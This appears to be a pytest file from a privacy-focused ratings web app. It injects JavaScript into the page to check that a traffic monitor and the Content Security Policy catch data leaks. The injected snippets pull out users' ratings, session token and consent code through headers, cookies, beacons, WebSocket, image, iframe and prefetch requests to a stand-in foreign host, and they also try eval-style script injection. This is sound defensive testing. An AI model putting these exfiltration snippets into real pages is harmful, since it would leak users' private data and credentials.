# SPDX-License-Identifier: Apache-2.0
"""Nothing of the ratings leaves the browser but the upload: leaks that are put in are found.

The journey of test_browser_journey.py ends with the same check of all that was sent in it.
"""

from __future__ import annotations

import pytest

from ppmf_secure.session.enrolment import write_code
from tests.browser.conftest import Devices
from tests.browser.page_servers import PageServers
from tests.browser.recording_proxy import Answer, Exchange, RecordingProxy
from tests.browser.traffic import Allowed
from tests.browser.users_page import UsersPage

FOREIGN = "http://127.0.0.1:47999"
SEARCHED = "quiet orchard"

PREPARED = """
const rated = () => [...document.querySelectorAll("li[data-item]")]
  .map((one) => [one.dataset.item, one.querySelector("input:checked")?.value ?? ""].join("="))
  .join(";");
const hex = (text) => [...new TextEncoder().encode(text)]
  .map((byte) => byte.toString(16).padStart(2, "0")).join("").padEnd(64, "0").slice(0, 64);
const element = (name, members) =>
  document.body.append(Object.assign(document.createElement(name), members));
const leaks = {
%s
};
// later, so that what the driver may do is not what the page may do
window.leak = (name) => new Promise((resolve) => setTimeout(async () => {
  try {
    await leaks[name]();
    resolve("");
  } catch (error) {
    resolve(`${error}`);
  }
}));
"""

SEEN = {
    "query": ("fetch(`/v1/sessions?${rated()}`)", "a query"),
    "path": ("fetch(`/page/${hex(rated())}.css`)", "a file that there is not"),
    "interface": ("fetch(`/v1/liked/${rated()}`)", "a path that the page does not need"),
    "session": ("fetch(`/v1/sessions/${hex(rated())}`)", "a session that there is not"),
    "header": (
        'fetch("/v1/sessions", { headers: { "X-Rated": rated() } })',
        "the header x-rated",
    ),
    "usual header": (
        'fetch("/v1/sessions", { headers: { "Accept-Language": rated() } })',
        "the header accept-language",
    ),
    "tag": (
        'fetch("/v1/sessions", { headers: { "If-None-Match": `"${rated()}"` } })',
        "the header if-none-match",
    ),
    "method": ("fetch('/v1/sessions', { method: rated().slice(0, 1) + 'X' })", "a method"),
    "beacon": ('navigator.sendBeacon("/v1/sessions", rated())', "a method"),
    "no upload": (
        "fetch(OWN, { method: 'PUT', body: new TextEncoder().encode(rated()) })",
        "a body that is no upload",
    ),
    "another row": (
        "fetch(OWN.replace(/[0-9]+$/, '2'), { headers: {} })",
        "another user's upload",
    ),
    "serial": ("fetch(`${OWN}?serial=0${rated().length}`, { method: 'DELETE' })", "a query"),
    "referrer": (
        "fetch('/v1/sessions', { referrer: `/?${rated()}`, referrerPolicy: 'unsafe-url' })",
        "the header referer",
    ),
    "cookie": (
        "((document.cookie = `rated=${hex(rated())}`), fetch('/v1/sessions'))",
        "the header cookie",
    ),
    "csp's session": (
        "fetch(`${CSP}/v1/sessions/${hex(rated())}`)",
        "something else than a session is asked of CSP",
    ),
    "csp's body": (
        "fetch(`${CSP}/v1/sessions/${ID}`, { method: 'POST', body: rated() })",
        "more than a question to CSP",
    ),
    "csp and the token": (
        "fetch(`${CSP}/v1/sessions/${ID}`, { headers: { Authorization: `Bearer ${TOKEN}` } })",
        "more than a question to CSP",  # the preflight
    ),
    "token": ("fetch(`/v1/sessions?${TOKEN}`)", "the token"),
    "code": (
        "fetch('/v1/sessions', { headers: { Pragma: CODE.replace(/-/g, '') } })",
        "the consent code",
    ),
    "searched": (
        "fetch(`/v1/sessions?${new URLSearchParams({ q: SEARCHED })}`)",
        f"the text {SEARCHED!r}",
    ),
    "another page": (f"location.assign(`{FOREIGN}/?${{rated()}}`)", "foreign origin"),  # the last
}
"""Leaks that the page's policy cannot stop: what the check of the traffic says of each."""

STOPPED = {
    "fetch": f"fetch(`{FOREIGN}/?${{rated()}}`).catch(() => {{}})",
    "socket": f"new WebSocket(`{FOREIGN.replace('http', 'ws')}/${{hex(rated())}}`)",
    "image": f"element('img', {{ src: `{FOREIGN}/?${{rated()}}` }})",
    "style": f"element('link', {{ rel: 'stylesheet', href: `{FOREIGN}/?${{rated()}}` }})",
    "another place at CSP": "fetch(`${CSP}/healthz`, { method: 'POST', body: rated() })",
    "frame": f"element('iframe', {{ src: `{FOREIGN}/?${{rated()}}` }})",
    "prefetch": f"element('link', {{ rel: 'prefetch', href: `{FOREIGN}/?${{rated()}}` }})",
    "inline script": "element('script', { textContent: 'window.ran = true' })",
    "handler": "element('img', { onerror: null, src: 'data:,' }) ?? "
    "document.body.lastChild.setAttribute('onerror', 'window.ran = true')",
    "text as code": "Function('window.ran = true')()",
    "markup": "((document.body.lastChild.innerHTML = '<b>x</b>'), (window.ran = true))",
}
"""Leaks, and ways to them, that the page's policy stops."""


def with_leaks(servers: PageServers, session_id: str) -> str:
    """What is added to the page's own module."""
    invitation = servers.invitation()
    names = {
        "CSP": servers.csp,
        "ID": session_id,
        "OWN": f"{servers.recsys}/v1/sessions/{session_id}/uploads/0",
        "TOKEN": invitation.recsys.token,
        "CODE": write_code(invitation.csp.code),
        "SEARCHED": SEARCHED,
    }
    consts = "".join(f"const {name} = {value!r};\n" for name, value in names.items())
    leaks = {**{name: leak for name, (leak, _) in SEEN.items()}, **STOPPED}
    functions = "".join(f"  {name!r}: () => {leak},\n" for name, leak in leaks.items())
    return consts + PREPARED % functions


@pytest.fixture
def leaking(
    servers: PageServers, proxy: RecordingProxy, devices: Devices
) -> tuple[UsersPage, Allowed]:
    """The page with leaks in it, on which somebody has rated; and what it may send."""
    session = servers.session()

    def changed(asked: Exchange) -> Answer | None:
        if asked.path == "/page/app/main.mjs" and asked.answer is not None:
            added = with_leaks(servers, session.id.hex())
            return asked.answer.but(asked.answer.body + added.encode())
        return None

    proxy.changes.append(changed)
    page = devices.tab()
    page.open(servers.link())
    page.search(SEARCHED)
    page.by("items").locator("input[value='4.5']").first.check(force=True)
    page.rated(1)
    page.send()
    return page, Allowed(servers.invitation(), [session], [SEARCHED])


def test_each_leak_that_is_put_into_the_page_is_found(
    leaking: tuple[UsersPage, Allowed], proxy: RecordingProxy
) -> None:
    page, allowed = leaking
    assert allowed.breaches(proxy.exchanges) == []
    missed, before_all = {}, 0
    for name, (_, due) in SEEN.items():
        page.tab.evaluate("name => leak(name)", name)
        new = []
        for _ in range(50):
            new = allowed.breaches([*proxy.exchanges])[before_all:]
            if any(due in line for line in new):
                break
            page.tab.wait_for_timeout(20)
        else:
            missed[name] = new
        before_all += len(new)
        page.tab.context.clear_cookies()
    assert missed == {}


def test_the_policy_of_the_page_stops_what_it_can(
    leaking: tuple[UsersPage, Allowed], proxy: RecordingProxy, devices: Devices
) -> None:
    page, _ = leaking
    passed = []
    for name in STOPPED:
        devices.said.clear()
        before = len(proxy.exchanges)
        threw = page.tab.evaluate("name => leak(name)", name)
        page.tab.wait_for_timeout(50)
        foreign = [one for one in proxy.exchanges[before:] if FOREIGN[7:] in one.url]
        said = any("Content Security Policy" in line for line in devices.said)
        if foreign or not (said or threw) or page.tab.evaluate("() => 'ran' in window"):
            passed.append(name)
    assert passed == []
    devices.uncaught.clear()
